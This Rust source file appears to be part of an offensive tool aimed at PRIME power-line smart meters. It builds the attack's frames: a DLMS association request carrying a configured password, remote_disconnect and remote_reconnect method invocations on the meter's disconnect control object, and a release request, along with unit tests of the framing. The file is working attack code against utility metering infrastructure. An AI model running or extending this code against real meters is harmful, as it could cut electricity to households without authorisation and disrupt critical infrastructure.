//! Outbound frame composition
//!
//! Every message of the attack travels in the same envelope: a downlink
//! generic MAC frame addressed to the target's SID/LNID/LCID, carrying a
//! three byte ARQ subheader (PKTID, ACKID, window size), a single-segment SAR
//! byte and a convergence-layer header in front of the DLMS APDU.

use crate::sequence::{SeqNo, SequenceState};
use bytes::Bytes;
use prime_asn1::{
    ApduBuilder, Conformance, DataValue, DlmsApduBuilder, ReleaseRequestReason,
    DEFAULT_MAX_PDU_SIZE,
};
use prime_core::{AttackConfig, ObisCode, PrimeError, PrimeResult};
use prime_mac::{
    ArqHeader, ClHeader, GenericHeader, HeaderType, PacketBody, PacketHeader, PrimeFrame,
    SarHeader, MAX_PACKET_LEN,
};
use std::fmt;

/// Bytes between the packet header and the APDU: ARQ (3), SAR (1), CL (3)
pub const ENVELOPE_OVERHEAD: usize = 7;

/// ARQ window size advertised to the target
pub const WINDOW_SIZE: u8 = 0x10;

/// Packet priority of management traffic
pub const PRIORITY: u8 = 2;

/// Convergence-layer type of the 4-32 management connection
pub const CL_TYPE: u8 = 0x90;

/// COSEM class of the disconnect control object
pub const DISCONNECT_CONTROL_CLASS: u16 = 70;

/// `remote_disconnect` method of the disconnect control object
pub const METHOD_REMOTE_DISCONNECT: i8 = 1;

/// `remote_reconnect` method of the disconnect control object
pub const METHOD_REMOTE_RECONNECT: i8 = 2;

const CL_SOURCE: u8 = 1;
const CL_DESTINATION_ASSOCIATION: u8 = 2;
const CL_DESTINATION: u8 = 1;

/// Message sent by the attack
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MessageKind {
    AssociationRequest,
    DisconnectRequest,
    ConnectRequest,
    ReleaseRequest,
}

impl MessageKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            MessageKind::AssociationRequest => "AARQ",
            MessageKind::DisconnectRequest => "remote_disconnect",
            MessageKind::ConnectRequest => "remote_reconnect",
            MessageKind::ReleaseRequest => "RLRQ",
        }
    }
}

impl fmt::Display for MessageKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A composed message, ready to be written to the medium
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OutboundMessage {
    pub kind: MessageKind,
    /// PKTID stamped in the ARQ subheader
    pub pkt_id: SeqNo,
    /// ACKID stamped in the ARQ subheader
    pub ack_id: SeqNo,
    pub frame: PrimeFrame,
    /// Serialized frame, checksums included
    pub raw: Bytes,
}

impl OutboundMessage {
    /// Encoded APDU carried by the frame
    pub fn payload(&self) -> &[u8] {
        self.frame.data().map(|data| data.as_ref()).unwrap_or_default()
    }

    /// Value of the LEN field
    pub fn declared_len(&self) -> u16 {
        self.frame.packet.len
    }
}

/// Builds the attack's messages for one target
///
/// Composing has no side effect: the caller decides when to send and keeps
/// the sequence counters.
pub struct FrameComposer<B = DlmsApduBuilder> {
    config: AttackConfig,
    builder: B,
}

impl FrameComposer<DlmsApduBuilder> {
    pub fn new(config: AttackConfig) -> Self {
        Self::with_builder(config, DlmsApduBuilder::new())
    }
}

impl<B: ApduBuilder> FrameComposer<B> {
    pub fn with_builder(config: AttackConfig, builder: B) -> Self {
        Self { config, builder }
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    /// Association request with the configured password
    pub fn compose_association_request(&self, seq: &SequenceState) -> PrimeResult<OutboundMessage> {
        self.compose(MessageKind::AssociationRequest, seq)
    }

    /// `remote_disconnect` invocation
    pub fn compose_disconnect_request(&self, seq: &SequenceState) -> PrimeResult<OutboundMessage> {
        self.compose(MessageKind::DisconnectRequest, seq)
    }

    /// `remote_reconnect` invocation
    pub fn compose_connect_request(&self, seq: &SequenceState) -> PrimeResult<OutboundMessage> {
        self.compose(MessageKind::ConnectRequest, seq)
    }

    /// Release request with reason normal
    pub fn compose_release_request(&self, seq: &SequenceState) -> PrimeResult<OutboundMessage> {
        self.compose(MessageKind::ReleaseRequest, seq)
    }

    /// Compose a message of the given kind stamped with the current counters
    ///
    /// # Errors
    /// Returns the codec error if the APDU cannot be built, or
    /// `PrimeError::Encoding` if it does not fit in one packet.
    pub fn compose(&self, kind: MessageKind, seq: &SequenceState) -> PrimeResult<OutboundMessage> {
        let payload = match kind {
            MessageKind::AssociationRequest => self.builder.association_request(
                self.config.credential(),
                Conformance::management_proposal(),
                DEFAULT_MAX_PDU_SIZE,
            )?,
            MessageKind::DisconnectRequest => self.builder.method_request(
                DISCONNECT_CONTROL_CLASS,
                ObisCode::DISCONNECT_CONTROL,
                METHOD_REMOTE_DISCONNECT,
                &[DataValue::Integer(0)],
            )?,
            MessageKind::ConnectRequest => self.builder.method_request(
                DISCONNECT_CONTROL_CLASS,
                ObisCode::DISCONNECT_CONTROL,
                METHOD_REMOTE_RECONNECT,
                &[DataValue::Integer(0)],
            )?,
            MessageKind::ReleaseRequest => {
                self.builder.release_request(ReleaseRequestReason::Normal)?
            }
        };

        let frame = self.envelope(kind, seq, payload)?;
        let raw = frame.encode(&self.config.sna())?;
        Ok(OutboundMessage {
            kind,
            pkt_id: seq.pkt_id,
            ack_id: seq.ack_id,
            frame,
            raw,
        })
    }

    fn envelope(&self, kind: MessageKind, seq: &SequenceState, payload: Bytes) -> PrimeResult<PrimeFrame> {
        let len = payload.len() + ENVELOPE_OVERHEAD;
        if len > MAX_PACKET_LEN {
            return Err(PrimeError::Encoding(format!(
                "{} APDU of {} bytes does not fit in one packet",
                kind,
                payload.len()
            )));
        }

        let destination = match kind {
            MessageKind::AssociationRequest => CL_DESTINATION_ASSOCIATION,
            _ => CL_DESTINATION,
        };

        Ok(PrimeFrame {
            header: GenericHeader {
                header_type: HeaderType::Generic,
                downlink: true,
                level: self.config.level().value(),
            },
            packet: PacketHeader {
                nad: true,
                priority: PRIORITY,
                control: false,
                lcid: self.config.conn_id().value(),
                sid: self.config.node_id().sid(),
                lnid: self.config.node_id().lnid(),
                spad: false,
                len: len as u16,
            },
            body: PacketBody::Data {
                arq: ArqHeader {
                    pkt_id: seq.pkt_id.value(),
                    flush: false,
                    ack_id: Some(seq.ack_id.value()),
                    win_size: Some(WINDOW_SIZE),
                    nack_ids: Vec::new(),
                },
                sar: SarHeader::single(),
                cl: ClHeader {
                    kind: CL_TYPE,
                    source: CL_SOURCE,
                    destination,
                },
                data: payload,
            },
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::target;
    use prime_core::{Credential, SwitchLevel};

    fn seq(pkt: u8, ack: u8) -> SequenceState {
        SequenceState {
            pkt_id: SeqNo::new(pkt),
            ack_id: SeqNo::new(ack),
        }
    }

    #[test]
    fn test_association_request_envelope() {
        let config = target().with_level(SwitchLevel::new(3).unwrap());
        let composer = FrameComposer::new(config.clone());
        let message = composer.compose_association_request(&seq(5, 9)).unwrap();

        assert_eq!(message.kind, MessageKind::AssociationRequest);
        assert_eq!(message.pkt_id.value(), 5);
        assert_eq!(message.ack_id.value(), 9);
        assert_eq!(
            usize::from(message.declared_len()),
            message.payload().len() + ENVELOPE_OVERHEAD
        );

        let frame = PrimeFrame::decode(&config.sna(), &message.raw).unwrap();
        assert!(frame.header.downlink);
        assert_eq!(frame.header.level, 3);
        assert!(frame.packet.nad);
        assert_eq!(frame.packet.priority, PRIORITY);
        assert_eq!(frame.packet.lcid, config.conn_id().value());
        assert_eq!(frame.packet.sid, config.node_id().sid());
        assert_eq!(frame.packet.lnid, config.node_id().lnid());

        let arq = frame.arq().unwrap();
        assert_eq!(arq.pkt_id, 5);
        assert_eq!(arq.ack_id, Some(9));
        assert_eq!(arq.win_size, Some(WINDOW_SIZE));
        assert!(arq.nack_ids.is_empty());

        match &frame.body {
            PacketBody::Data { cl, data, .. } => {
                assert_eq!((cl.kind, cl.source, cl.destination), (CL_TYPE, 1, 2));
                assert_eq!(data[0], 0x60);
            }
            PacketBody::Control(_) => panic!("expected a data packet"),
        }
    }

    #[test]
    fn test_association_request_carries_password() {
        let composer = FrameComposer::new(target().with_credential(Credential::new("S3cr3t")));
        let message = composer.compose_association_request(&seq(0, 0)).unwrap();
        let payload = message.payload();
        assert!(payload.windows(8).any(|w| w == [0xAC, 0x08, 0x80, 0x06, b'S', b'3', b'c', b'r']));
    }

    #[test]
    fn test_method_requests() {
        let builder = DlmsApduBuilder::new();
        let composer = FrameComposer::new(target());

        let disconnect = composer.compose_disconnect_request(&seq(1, 2)).unwrap();
        let expected = builder
            .method_request(70, ObisCode::DISCONNECT_CONTROL, 1, &[DataValue::Integer(0)])
            .unwrap();
        assert_eq!(disconnect.payload(), expected.as_ref());

        let connect = composer.compose_connect_request(&seq(1, 2)).unwrap();
        let expected = builder
            .method_request(70, ObisCode::DISCONNECT_CONTROL, 2, &[DataValue::Integer(0)])
            .unwrap();
        assert_eq!(connect.payload(), expected.as_ref());

        // Same routing, different method
        assert_eq!(disconnect.frame.packet, connect.frame.packet);
        assert_ne!(disconnect.raw, connect.raw);

        match &connect.frame.body {
            PacketBody::Data { cl, .. } => assert_eq!(cl.destination, 1),
            PacketBody::Control(_) => panic!("expected a data packet"),
        }
    }

    #[test]
    fn test_release_request() {
        let composer = FrameComposer::new(target());
        let release = composer.compose_release_request(&seq(3, 3)).unwrap();
        assert_eq!(release.payload(), &[0x62, 0x03, 0x80, 0x01, 0x00]);
        assert_eq!(release.declared_len(), 12);
    }

    #[test]
    fn test_compose_is_pure() {
        let composer = FrameComposer::new(target());
        let a = composer.compose(MessageKind::AssociationRequest, &seq(4, 4)).unwrap();
        let b = composer.compose(MessageKind::AssociationRequest, &seq(4, 4)).unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn test_oversized_payload_rejected() {
        let composer = FrameComposer::new(target().with_credential(Credential::new("x".repeat(600))));
        assert!(matches!(
            composer.compose_association_request(&seq(0, 0)),
            Err(PrimeError::Encoding(_))
        ));
    }
}
